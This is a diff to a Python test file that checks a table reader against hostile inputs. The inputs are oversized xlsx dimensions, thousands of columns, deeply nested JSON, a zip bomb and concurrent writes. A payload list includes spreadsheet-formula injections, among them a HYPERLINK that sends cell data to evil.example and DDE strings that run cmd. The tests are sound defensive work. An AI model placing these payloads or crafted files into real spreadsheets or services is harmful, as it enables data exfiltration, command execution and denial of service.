@@ -1,12 +1,14 @@
 """Hostile tables: unclosed quotes, oversized files and cells, spreadsheet formulas (issue 15)."""
 import csv
+import json
+import time
 import tracemalloc
 import zipfile
 
 import pytest
 from openpyxl import Workbook, load_workbook
 
-from planalign.corpora.tables import Limits, TableError, TableTooLarge, is_formula_like, read_table, write_table
+from planalign.corpora.tables import MAX_COLUMNS, Limits, TableError, TableTooLarge, is_formula_like, read_table, write_table
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)",
            "\tTAB=1", "\rCR=1"]
@@ -140,3 +142,64 @@ def test_every_refused_table_says_why_in_thai_naming_the_file(tmp_path, filename
         read_table(path, name=f"งาน-{filename}", limits=limits)
     assert raised.value.thai and f"งาน-{filename}" in raised.value.thai
     assert any("\u0e01" <= ch <= "\u0e5b" for ch in raised.value.thai)
+
+
+def _with_sheet_xml(path, edit) -> None:
+    """Rewrite the first sheet's XML of a saved workbook (a hostile file is one edit of a good one)."""
+    with zipfile.ZipFile(path) as archive:
+        parts = {name: archive.read(name) for name in archive.namelist()}
+    parts["xl/worksheets/sheet1.xml"] = edit(parts["xl/worksheets/sheet1.xml"].decode()).encode()
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+
+
+def test_a_workbook_declaring_a_huge_sheet_is_read_as_stored(tmp_path):
+    """A 1.6 KB workbook declaring A1:XFD100000 with a row at 100,000 took 112 s of one request: every row was
+    padded to 16,384 cells (a security probe). Rows are now as wide as their own cells."""
+    path = tmp_path / "lie.xlsx"
+    write_table(path, ["id", "name"], [{"id": "1", "name": "โครงการขุดลอกคลอง"}])
+    _with_sheet_xml(path, lambda xml: xml.replace("<sheetViews>", '<dimension ref="A1:XFD100000"/><sheetViews>')
+                    .replace("</sheetData>", '<row r="100000"><c r="A100000" t="inlineStr"><is><t>2</t></is></c></row></sheetData>'))
+    started = time.perf_counter()
+    table = read_table(path)
+    assert time.perf_counter() - started < 10  # 100,000 x 16,384 cells took minutes
+    assert table.columns == ["id", "name"] and [r["id"] for r in table.rows] == ["1", "2"] and table.sheet_rows == [2, 100000]
+
+
+def test_a_table_of_thousands_of_columns_is_refused_and_a_bomb_under_the_ratio_too(tmp_path, monkeypatch):
+    """8,000 JSON lines of one distinct key each (351 KB) padded every row to 8,000 columns: 1.5 GB (a security probe)."""
+    import planalign.corpora.tables as tables
+
+    wide = tmp_path / "wide.jsonl"
+    wide.write_text("\n".join(json.dumps({f"k{i}": "ขุดลอกคลอง"}) for i in range(MAX_COLUMNS + 1)), encoding="utf-8")
+    with pytest.raises(TableTooLarge, match="more than 1,000 columns"):
+        read_table(wide)
+    header = tmp_path / "wide.csv"
+    header.write_text(",".join(f"c{i}" for i in range(MAX_COLUMNS + 1)) + "\n" + ",".join("1" for _ in range(MAX_COLUMNS + 1)) + "\n")
+    with pytest.raises(TableTooLarge, match="columns"):
+        read_table(header)
+    deep = tmp_path / "deep.jsonl"
+    deep.write_text('{"a": ' + "[" * 100_000 + "]" * 100_000 + "}\n", encoding="utf-8")
+    with pytest.raises(TableError, match="nested too deeply"):  # a 500 that blamed the service
+        read_table(deep)
+    bomb = tmp_path / "bomb.xlsx"  # compresses ~1000x but under the ratio check's floor: the absolute cap refuses it
+    write_table(bomb, ["id"], [{"id": "1"}])
+    with zipfile.ZipFile(bomb, "a") as archive:
+        archive.writestr("xl/padding.xml", b" " * 3_000_000, compress_type=zipfile.ZIP_DEFLATED)
+    monkeypatch.setattr(tables, "MAX_XLSX_INFLATED", 2_000_000)
+    with pytest.raises(TableTooLarge, match="decompresses"):
+        read_table(bomb)
+
+
+def test_two_writers_of_one_path_never_mix_their_rows(tmp_path):
+    """Two uploads of one catalog id at once shared one temporary file and stored a mix of both (a security probe)."""
+    from concurrent.futures import ThreadPoolExecutor
+
+    path = tmp_path / "catalog.csv"
+    versions = [[{"id": f"{tag}{i}", "name": f"{tag} {'ก' * 50} {i}"} for i in range(3000)] for tag in ("A", "B")]
+    for _ in range(5):
+        with ThreadPoolExecutor(2) as pool:
+            list(pool.map(lambda rows: write_table(path, ["id", "name"], rows), versions))
+        tags = {r["id"][0] for r in read_table(path).rows}
+        assert len(tags) == 1 and len(read_table(path).rows) == 3000
